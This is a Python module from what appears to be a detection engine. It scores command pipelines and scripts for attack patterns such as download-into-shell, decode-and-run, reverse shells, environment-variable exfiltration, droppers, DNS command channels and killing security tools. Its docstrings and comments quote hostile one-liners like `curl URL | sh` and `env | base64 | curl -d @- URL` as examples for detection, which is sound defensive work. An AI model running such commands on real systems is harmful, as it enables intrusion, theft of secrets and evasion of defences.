"""Rules over sequences of commands, shared by shell scripts and chains of processes.

A pipeline (`curl URL | sh`, `env | base64 | curl -d @- URL`) and a write-then-run sequence
(`curl -o x URL; chmod +x x; ./x`) mean the same whether they sit in one `sh -c` string or arrive as
separate execs: scoring/heuristics.py applies these rules to a script's commands, scoring/chains.py to
processes linked by pipes, timing and files.
"""

from __future__ import annotations

import itertools
import re
from collections.abc import Sequence
from functools import lru_cache

from scoring.commands import Command, Script, unwrap
from scoring.evidence import (
    COMMAND_AND_CONTROL,
    DEFENSE_EVASION,
    EXECUTION,
    EXFILTRATION,
    LATERAL_MOVEMENT,
    Evidence,
)
from scoring.knowledge import deletes_of, names_security_tool, writes_of
from scoring.programs import DOWNLOADERS, ENCODERS, INLINE_CODE_FLAGS, INTERPRETERS, RAW_CLIENTS, SENDERS, SHELLS
from scoring.tokens import path_class

DECODERS = frozenset({"base64", "base32", "basenc", "xxd", "openssl", "gunzip", "zcat", "gzip", "bzip2", "xz",
                      "uudecode", "rev", "zstd"})
# The first command of a pipeline that ends in a network sender: these read what is worth stealing.
SECRET_SOURCES = frozenset({"env", "printenv", "set", "history", "cat", "tar", "zip", "find", "ps", "ls", "gpg",
                            "openssl", "base64", "gzip", "xxd", "dd", "strings", "head", "tail", "grep"})
# Two bytes or more written as escapes (hex, octal, unicode): text hidden from whoever reads the command.
_GRANTS_EXECUTE = re.compile(r"[+=][rwxXst]{0,6}[xX]")  # a symbolic clause adding or setting x
_ESCAPED_BYTES = re.compile(r"(?:\\x[0-9a-fA-F]{1,2}|\\[0-7]{3}|\\u[0-9a-fA-F]{4}){2}")
# Options of a shell or interpreter that take the next argument as their value (not the script to run).
_VALUE_OPTIONS = frozenset({"-o", "+o", "-O", "+O", "-W", "-X", "-I", "--require", "--import", "--rcfile",
                            "--init-file"})


def pipeline_evidence(commands: Sequence[Command], confirmed: bool) -> list[Evidence]:
    """Evidence of one pipeline, producers first: a download or decode feeding a shell or interpreter,
    secrets read, encoded and sent out. `confirmed` when the pipe is known (syntax or identities)."""
    if len(commands) < 2:
        return []
    inner = [unwrap(c) for c in commands]
    found: list[Evidence] = []
    strength = 1.0 if confirmed else 0.75
    for producer, consumer in itertools.pairwise(inner):
        if runs_stdin(consumer):
            if producer.program in DOWNLOADERS and not writes_of(producer, after_url=False):  # names no file
                found.append(Evidence(0.8 * strength, f"download piped into {consumer.program}: "
                                                      f"{producer.program} | {consumer.program}", "T1105",
                                      COMMAND_AND_CONTROL))
            elif _decodes(producer):
                found.append(Evidence(0.7 * strength, f"decoded data run by {consumer.program}: "
                                                      f"{producer.program} | {consumer.program}", "T1140",
                                      DEFENSE_EVASION))
            elif _raw_connection(producer):
                found.append(Evidence(0.8 * strength, f"what a network peer sends is run by {consumer.program}: "
                                                      f"{producer.program} | {consumer.program} (remote shell)",
                                      "T1059.004", EXECUTION))
    sender = inner[-1]
    if sends_stdin(sender) and len(inner) >= 2:
        sources = [c.program for c in inner[:-1]]
        secret = any(p in ("env", "printenv", "set") for p in sources) or any(
            p in SECRET_SOURCES for p in sources[:1])
        encoded = any(p in ENCODERS for p in sources)
        weight = (0.6 if secret and encoded else 0.45 if secret or encoded else 0.25) * strength
        found.append(Evidence(weight, f"data piped out to the network: {' | '.join([*sources, sender.program])}",
                              "T1041", EXFILTRATION))
    return found


def script_evidence(script: Script, cwd: str) -> list[Evidence]:
    """The chain rules inside one script: its pipelines, and files it writes and then runs."""
    found: list[Evidence] = []
    for pipeline in script.pipelines:
        found.extend(pipeline_evidence(pipeline.commands, confirmed=True))
    inner = [unwrap(c) for c in script.commands()]
    written: dict[str, tuple[str, float, str]] = {}
    executed: set[str] = set()
    for command in inner:
        if command.program == "cd" and len(command.args) == 2 and command.args[1][:1] not in ("-", "~", "$"):
            cwd = resolve(command.args[1], cwd)  # `cd /tmp && gcc x.c -o x && ./x` builds and runs /tmp/x
            continue
        for path in (resolve(p, cwd) for p in runs_files(command)):
            if path in written:
                how, weight, technique = written[path]
                found.append(Evidence(weight, f"runs {path[:80]}, {how} earlier in the same script", technique,
                                      EXECUTION))
                executed.add(path)
                break
        for target in deletes_of(command):
            if (deleted := resolve(target, cwd)) in executed:
                found.append(Evidence(deleted_after_run_weight(hideout(deleted)),
                                      f"deletes {target[:80]} after running it", "T1070.004", DEFENSE_EVASION))
        for resolved, how, weight, technique in made_runnable(command, cwd):
            if resolved in written and how.startswith(("made executable", "given the setuid bit")):
                previous = written[resolved]
                how, weight = f"{previous[0]}, then {how}", max(weight, previous[1])
            written[resolved] = (how, weight, technique)
    found.extend(_commands_together(inner))
    through = "command substitution" if any(_substitution_feeds_interpreter(c) for c in inner) else \
        "a variable" if any(_runs_expansion(c) or _variable_program(c) for c in inner) else ""
    if through:  # `eval $(curl URL)`; `c=$(curl URL); eval "$c"`; `X=$(echo .. | base64 -d); $X`
        if any(c.program in DOWNLOADERS for c in inner):
            found.append(Evidence(0.8, f"downloaded code run through {through}", "T1105", COMMAND_AND_CONTROL))
        elif any(_decodes(c) for c in inner):
            found.append(Evidence(0.7, f"decoded data run through {through}", "T1140", DEFENSE_EVASION))
    if any(_variable_program(c).count("$") >= 2 or "${!" in _variable_program(c) for c in inner):
        found.append(Evidence(0.45, "runs a command whose name is pieced together from variables", "T1027",
                              DEFENSE_EVASION))
    return found


def _variable_program(command: Command) -> str:
    """The command's name when a variable gives it (`$X`, `$a$b`, `${!#}`), else ""."""
    name = command.args[0] if command.args else ""
    return name if name.startswith("$") and not name.startswith("$(") else ""


def _commands_together(inner: list[Command]) -> list[Evidence]:
    """What a script's commands (wrappers removed) do together: a DNS answer run as commands, security tools
    found and killed."""
    found: list[Evidence] = []
    if any(_asks_dns_for_text(c) for c in inner) and any(_runs_expansion(c) for c in inner):
        found.append(Evidence(0.7, "runs what DNS TXT records say (commands over DNS)", "T1071.004",
                              COMMAND_AND_CONTROL))
    if any(_logs_in_to_a_variable_host(c) for c in inner) and any(_reads_known_hosts(c) for c in inner):
        found.append(Evidence(0.5, "logs in over SSH to each host its known_hosts lists", "T1021.004",
                              LATERAL_MOVEMENT))
    # The pids come from a substitution (`kill $(pgrep falco)`) or from the pipe (`... | xargs kill -9`, no
    # operand of its own); the names from the finder or the filter after it (`ps aux | grep -E 'wazuh|ossec'`).
    kills_found = any(c.program in ("kill", "pkill", "killall") and
                      ("$(...)" in c.args or not [a for a in c.args[1:] if not a.startswith("-")]) for c in inner)
    if kills_found and any(c.program in _PROCESS_FINDERS and names_security_tool(" ".join(c.args[1:]))
                           for c in inner):
        found.append(Evidence(0.5, "finds security tools by name and kills them", "T1562.001", DEFENSE_EVASION))
    return found


_PROCESS_FINDERS = frozenset({"pgrep", "pidof", "ps", "grep", "egrep", "awk"})
_KNOWN_HOSTS_READERS = frozenset({"cat", "awk", "gawk", "mawk", "cut", "grep", "egrep", "sed", "sort", "uniq", "tr",
                                  "head", "tail", "read"})


def _reads_known_hosts(command: Command) -> bool:
    """`awk '{print $1}' ~/.ssh/known_hosts`: the hosts this account has logged in to."""
    return command.program in _KNOWN_HOSTS_READERS and any(
        "known_hosts" in a for a in (*command.args[1:], *(r.target for r in command.redirects)))


def _logs_in_to_a_variable_host(command: Command) -> bool:
    return command.program in ("ssh", "scp", "rsync") and any(a.startswith("$") for a in command.args[1:])


def _asks_dns_for_text(command: Command) -> bool:
    return command.program in ("dig", "nslookup", "host", "drill", "kdig") and any(
        a.lower() in ("txt", "-type=txt", "-q=txt", "-querytype=txt") for a in command.args[1:])


def _runs_expansion(command: Command) -> bool:
    """A shell or eval given a variable or a substitution to run: `sh -c "$c"`, `eval $(...)`."""
    runs = command.program in SHELLS or command.program in ("eval", "source", ".")
    return runs and any(a.startswith("$") for a in command.args[1:])


def runs_files(command: Command) -> tuple[str, ...]:
    """The files a command runs: its program, and the script a shell or interpreter is given (`sh x.sh`,
    `python3 /tmp/a.py`, `source ./env.sh`); a dropper runs what it fetched either way."""
    if not command.args:
        return ()
    script = script_file(command)
    return (command.args[0], script) if script else (command.args[0],)


def script_file(command: Command) -> str:
    """The script file a shell or interpreter runs; "" for code given inline, on stdin or as a module."""
    program, args = command.program, command.args[1:]
    if program in ("source", "."):
        return args[0] if args else ""
    if (program not in SHELLS and program not in INTERPRETERS) or program == "busybox":
        return ""
    i = 0
    while i < len(args):
        arg = args[i]
        if arg == "--":
            return args[i + 1] if i + 1 < len(args) else ""
        if arg == "-f" and program == "php":
            return args[i + 1] if i + 1 < len(args) else ""
        if arg in ("-", "-s", "-m") or _inline_code_flag(program, arg):
            return ""  # code on the command line (`python3 -c`, `bash -lc`), on stdin, or a module
        if arg[:1] in "-+":
            i += 2 if arg in _VALUE_OPTIONS else 1
            continue
        return arg
    return ""


def _inline_code_flag(program: str, arg: str) -> bool:
    if program in SHELLS:  # -e and -x are errexit and xtrace there; only -c (alone or in a cluster) is code
        return arg[:1] == "-" and arg[1:2] != "-" and "c" in arg
    return arg in INLINE_CODE_FLAGS


def made_runnable(command: Command, cwd: str) -> list[tuple[str, str, float, str]]:
    """(path resolved against `cwd`, how, weight of running it later, technique) for each file this command
    prepares. Running what was prepared in a temp, shared-memory or hidden place counts in full; elsewhere (a
    build directory, a deployment) a third."""
    resolved = [(resolve(path, cwd), *rest) for path, *rest in prepared_files(command)]
    return [(path, how, weight if hideout(path) else discounted(weight), technique)
            for path, how, weight, technique in resolved]


def discounted(weight: float) -> float:
    """The weight of running a prepared file that nothing about it makes suspect."""
    return round(weight * 0.3, 3)


def deleted_after_run_weight(suspect: bool) -> float:
    """Deleting a file after running it: covering tracks when the file was suspect; a build cleaning its
    own output otherwise."""
    return 0.35 if suspect else 0.1


def hideout(path: str) -> bool:
    """A temp, shared-memory or device directory, or a hidden name: where droppers put what they run."""
    name = path.rstrip("/").rsplit("/", 1)[-1]
    return path_class(path) in ("tmp", "shm", "dev") or (name.startswith(".") and name not in (".", ".."))


def _sets_execute(mode: str) -> bool:
    """A chmod mode that grants an execute bit: `+x`, `u=rwx`, `755`; not `600` or `644` (a key, a cron file)."""
    if mode.isdigit():
        return set(mode) <= set("01234567") and any(int(digit) & 1 for digit in mode[-3:])
    return _GRANTS_EXECUTE.search(mode) is not None


_COPIERS = frozenset({"cp", "mv", "install", "rsync", "ln"})


def copy_source(command: Command) -> str:
    """The file a copy (cp, mv, install, rsync, ln) takes its content from; "" for other commands."""
    return command.args[-2] if command.program in _COPIERS and len(command.args) >= 3 else ""


def prepared_files(command: Command) -> list[tuple[str, str, float, str]]:
    """(path, how, weight of running it later when it is suspect, technique) for each file this command prepares."""
    program = command.program
    if program in DOWNLOADERS:
        return [(p, f"downloaded by {program}", 0.6, "T1105") for p in writes_of(command)]
    if program in _COPIERS:
        targets = writes_of(command)
        source = copy_source(command)
        system = path_class(source) == "system"
        how = f"copied from {source[:60]} by {program}" if system else f"written by {program}"
        return [(p, how, 0.45 if system else 0.3, "T1036.003" if system else "T1105") for p in targets]
    if program == "chmod" and len(command.args) >= 3:
        mode = command.args[1] if not command.args[1].startswith("-") else (command.args[2:3] or ("",))[0]
        targets = [a for a in command.args[2:] if not a.startswith("-") and a != mode]
        if "s" in mode or (mode[:1] in "246" and len(mode) == 4):
            return [(p, "given the setuid bit by chmod", 0.5, "T1548.001") for p in targets]
        if _sets_execute(mode):
            return [(p, "made executable by chmod", 0.35, "T1222.002") for p in targets]
        return []
    if program in DECODERS and command.writes_to():
        return [(p, f"decoded by {program}", 0.6, "T1140") for p in command.writes_to()]
    if program in ("gcc", "cc", "clang", "tcc", "go", "rustc") and "-o" in command.args:
        index = command.args.index("-o")
        if index + 1 < len(command.args):
            return [(command.args[index + 1], f"compiled by {program}", 0.25, "T1027.004")]
    if program in ("echo", "printf", "cat", "tee", "dd"):  # by a redirection, or tee's files and dd's of=
        return [(p, f"written by {program}", 0.3, "T1105") for p in writes_of(command)]
    return []


CONSUMER = 1  # reads its program or its payload from stdin: a shell, an interpreter, a network sender
PRODUCER = 2  # writes what is worth piping: a download, decoded or encoded data, secrets


@lru_cache(maxsize=1 << 13)
def pipe_role(args: tuple[str, ...]) -> int:
    """The part a process can play in a pipe worth noticing (CONSUMER | PRODUCER bits; 0: none)."""
    command = unwrap(Command(args))
    role = CONSUMER if runs_stdin(command) or sends_stdin(command) else 0
    program = command.program
    to_stdout = program in DOWNLOADERS and not writes_of(command, after_url=False)
    if to_stdout or program in DECODERS or program in ENCODERS or program in SECRET_SOURCES or \
            _raw_connection(command):
        role |= PRODUCER
    return role


def runs_stdin(command: Command) -> bool:
    """A shell or interpreter reading its program from standard input (`sh`, `bash -s`, `python3 -`) or from
    another pipe (`bash /dev/fd/63`: what `bash <(curl ...)` runs)."""
    program = command.program
    if program not in SHELLS and program not in INTERPRETERS:
        return False
    operands = [a for a in command.args[1:] if not a.startswith("-") or a == "-"]
    flags = [a for a in command.args[1:] if a.startswith("-") and a != "-"]
    return not operands or operands[0] == "-" or "-s" in flags or reads_program_from_fd(command.args)


_FD_PATH = re.compile(r"^/(?:dev|proc/self)/fd/\d{1,4}$|^/dev/stdin$")


def reads_program_from_fd(args: tuple[str, ...]) -> bool:
    """A shell or interpreter given a file descriptor as its script: process substitution, `<(...)`."""
    return any(_FD_PATH.match(a) for a in args[1:3])


def sends_stdin(command: Command) -> bool:
    """A network client sending what it reads on standard input."""
    program, args = command.program, command.args
    if program not in SENDERS:
        return False
    if program in ("curl", "wget"):
        return any(a in ("@-", "-") or a.endswith("=@-") or a == "--data-binary=@-" for a in args[1:]) or (
            "-T" in args and "-" in args) or "--post-file=/dev/stdin" in args
    return program in RAW_CLIENTS or (program == "ssh" and len(args) > 2) or (
        program == "openssl" and "s_client" in args)


def _decodes(command: Command) -> bool:
    program, args = command.program, command.args
    if program in ("base64", "base32", "basenc"):
        return bool({"-d", "--decode", "-D"} & set(args))
    if program == "xxd":
        return "-r" in args or "-rp" in args
    if program == "openssl":
        return "-d" in args
    if program in ("printf", "echo"):  # the shell turns escaped bytes into the text: `printf '\x69\x64' | sh`
        return any(_ESCAPED_BYTES.search(a) for a in args[1:])
    return program in ("gunzip", "zcat", "uudecode", "rev") or (program in ("gzip", "bzip2", "xz") and "-d" in args)


def _raw_connection(command: Command) -> bool:
    """A client that hands on what a peer sends, unframed: nc, socat, telnet, openssl s_client."""
    return command.program in RAW_CLIENTS or (command.program == "openssl" and "s_client" in command.args)


def _substitution_feeds_interpreter(command: Command) -> bool:
    command = unwrap(command)
    program = command.program
    runs = program in SHELLS or program in INTERPRETERS or program in ("eval", "source", ".")
    # `$(curl URL)` alone as a command: the shell runs what the substitution prints.
    return (runs and any(a in ("$(...)", "<(...)") for a in command.args[1:])) or command.args[:1] == ("$(...)",)


def resolve(path: str, cwd: str) -> str:
    if not path:
        return ""
    path = path.strip("'\"")
    if path.startswith("/"):
        return path
    relative = path
    while relative.startswith("./"):
        relative = relative[2:]
    if cwd:
        return cwd.rstrip("/") + "/" + relative
    return relative or path  # `.x` stays `.x`: a hidden name is evidence (hideout)
